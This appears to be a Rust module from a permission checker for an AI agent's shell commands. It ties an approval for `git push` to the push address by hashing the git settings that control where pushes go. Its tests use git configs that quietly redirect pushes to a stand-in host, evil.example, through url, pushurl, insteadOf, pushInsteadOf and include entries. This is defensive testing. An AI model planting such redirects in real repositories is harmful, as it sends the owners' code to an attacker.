//! Where a push goes: a grant for `git push origin main` was given for one address, and ends with it (design, section 5).
//!
//! Of git's settings only those lines count that say so: a new branch, a name or an e-mail address changes nothing.

use crate::digest::hex;
use crate::world::{Answer, Question, World};
use sha2::{Digest, Sha256};

/// Settings of a repository are a few kilobytes; what is longer is not read to its end, and said so.
const SETTINGS_MAX: usize = 256 << 10;
/// Files that include each other.
const FILES_MAX: usize = 16;
/// Folders above each other in which a repository is looked for.
const FOLDERS_MAX: usize = 64;
/// Sections that say where a push goes, or which other file does.
const SECTIONS: &[&str] = &["remote", "url", "include", "includeif", "push"];
/// Names of a branch that do.
const OF_BRANCH: &[&str] = &["remote", "pushremote"];
const SETTINGS: &str = "/config";
/// Not by its path: the approver's home may be another than the agent's.
const OF_USER: &str = "~/.gitconfig";

/// The file that says where pushes from this folder go, and a hash of what it and the user's settings say about that.
pub(crate) fn of(folder: &str, world: &dyn World) -> (String, String) {
    let own = settings_of(folder, world);
    let home = world.text(Question::Home).unwrap_or_default();
    let name = own.clone().unwrap_or_else(|| OF_USER.to_owned());
    let mut files: Vec<String> = own.into_iter().collect();
    files.extend([
        "/etc/gitconfig".to_owned(),
        format!("{home}/.gitconfig"),
        format!("{home}/.config/git/config"),
    ]);
    let mut hasher = Sha256::new();
    let mut any = false;
    let mut at = 0;
    while let Some(path) = files.get(at).cloned() {
        at += 1;
        let text = match world.ask(Question::Read(&path, SETTINGS_MAX)) {
            Answer::Bytes(bytes) => String::from_utf8_lossy(&bytes).into_owned(),
            _ => continue,
        };
        let (lines, more) = said(&text);
        any |= !lines.is_empty();
        for line in lines {
            hasher.update((line.len() as u64).to_le_bytes());
            hasher.update(line.as_bytes());
        }
        for file in more {
            let file = match file.strip_prefix("~/") {
                Some(rest) => format!("{home}/{rest}"),
                None if file.starts_with('/') => file,
                None => format!("{}/{file}", path.rsplit_once('/').map_or("", |(folder, _)| folder)),
            };
            if files.len() < FILES_MAX && !files.contains(&file) {
                files.push(file);
            }
        }
    }
    (name, if any { hex(&hasher.finalize()) } else { crate::binding::MISSING.to_owned() })
}

/// Whether this is the file that [`of`] has named.
pub(crate) fn is_settings(name: &str) -> bool {
    name == OF_USER || name.ends_with(SETTINGS) && name.contains(".git")
}

/// The settings of the repository around a folder. In a linked work tree `.git` is a file that names another folder.
fn settings_of(folder: &str, world: &dyn World) -> Option<String> {
    let mut folder = folder.trim_end_matches('/');
    for _ in 0..FOLDERS_MAX {
        let dot_git = format!("{folder}/.git");
        let settings = format!("{dot_git}/config");
        if let Answer::Bytes(_) = world.ask(Question::Read(&settings, 1)) {
            return Some(settings);
        }
        if let Answer::Bytes(bytes) = world.ask(Question::Read(&dot_git, 4096)) {
            let text = String::from_utf8_lossy(&bytes).into_owned();
            let there = text.trim().strip_prefix("gitdir:")?.trim().to_owned();
            let there = if there.starts_with('/') { there } else { format!("{folder}/{there}") };
            // `…/.git/worktrees/name`: the settings are those of the repository.
            let common = there.split_once("/worktrees/").map_or(there.as_str(), |(common, _)| common);
            return Some(format!("{common}/config"));
        }
        folder = folder.rsplit_once('/')?.0;
    }
    None
}

/// The lines that say where a push goes, each with its section, and the files that are included.
fn said(text: &str) -> (Vec<String>, Vec<String>) {
    let (mut lines, mut files) = (Vec::new(), Vec::new());
    let mut section = String::new();
    let mut continued = false;
    for line in text.lines() {
        let mut line = line.trim();
        if let Some(rest) = line.strip_prefix('[').filter(|_| !continued) {
            let (name, behind) = rest.split_once(']').unwrap_or((rest, ""));
            section = name.trim().to_owned();
            line = behind.trim();
        }
        if line.is_empty() || line.starts_with(['#', ';']) && !continued {
            continue;
        }
        let kind = section.split([' ', '\t', '.', '"']).next().unwrap_or_default().to_ascii_lowercase();
        let (key, value) = line.split_once('=').unwrap_or((line, ""));
        let key = key.trim().to_ascii_lowercase();
        let counts = SECTIONS.contains(&kind.as_str())
            || kind == "branch" && OF_BRANCH.contains(&key.as_str())
            || kind == "core" && key == "sshcommand"
            || continued;
        if counts {
            lines.push(format!("[{section}] {line}"));
        }
        if kind.starts_with("include") && key == "path" {
            files.push(value.trim().trim_matches('"').to_owned());
        }
        continued = counts && line.ends_with('\\');
    }
    (lines, files)
}

#[cfg(test)]
mod tests {
    use crate::world::TableWorld;
    use crate::{Decision, Policy, ToolCall, Verdict, judge};

    const CONFIG: &str = "[core]\n\tbare = false\n[remote \"origin\"]\n\turl = git@github.com:me/app.git\n";
    const AT: &str = "/home/dev/src/app/.git/config";

    fn judged(command: &str, files: &[(&str, &str)]) -> Verdict {
        let mut world = TableWorld::developer();
        for (path, text) in files {
            world.files.insert((*path).into(), text.as_bytes().to_vec());
        }
        judge(&ToolCall::shell(command), &world, &Policy::default())
    }

    fn parts(verdict: &Verdict) -> serde_json::Value {
        let parts = crate::grant::parts(&ToolCall::shell("git push origin main"), verdict);
        assert!(!parts.is_exact());
        parts.to_json()
    }

    #[test]
    fn a_grant_for_a_push_ends_with_the_address() {
        let push = "git push origin main";
        let before = judged(push, &[(AT, CONFIG)]);
        assert_eq!(before.decision, Decision::Ask);
        let evil = CONFIG.replace("github.com:me", "evil.example:x");
        let pushes = format!("{CONFIG}\tpushurl = https://evil.example/x\n");
        let instead = format!("{CONFIG}[url \"https://evil.example/\"]\n\tinsteadOf = git@github.com:\n");
        let includes = format!("{CONFIG}[include]\n\tpath = more\n");
        for files in [
            vec![(AT, evil.as_str())],
            vec![(AT, pushes.as_str())],
            vec![(AT, instead.as_str())],
            vec![(AT, includes.as_str())],
            vec![
                (AT, CONFIG),
                ("/home/dev/.gitconfig", "[url \"https://evil.example/\"]\n  pushInsteadOf = git@\n"),
            ],
        ] {
            let after = judged(push, &files);
            assert_ne!(before.digest, after.digest, "{files:?}");
            assert_ne!(parts(&before), parts(&after), "{files:?}");
            let changes = crate::binding::changes(&before.bound, &after.bound);
            assert_eq!(
                changes,
                ["`/home/dev/src/app/.git/config`, which says where a push goes, was changed"]
            );
        }
        // An included file counts as well.
        let more = "/home/dev/src/app/.git/more";
        let one = judged(push, &[(AT, &includes), (more, "[remote \"origin\"]\n pushurl = a\n")]);
        let two = judged(push, &[(AT, &includes), (more, "[remote \"origin\"]\n pushurl = b\n")]);
        assert_ne!(parts(&one), parts(&two));
    }

    #[test]
    fn other_settings_of_git_end_no_grant() {
        let push = "git push origin main";
        let other = format!("{CONFIG}[user]\n\tname = Ada\n[branch \"feat\"]\n\tmerge = refs/heads/feat\n");
        let (before, after) = (judged(push, &[(AT, CONFIG)]), judged(push, &[(AT, &other)]));
        assert_eq!(parts(&before), parts(&after));
        assert_eq!(before.digest, after.digest);
    }
}
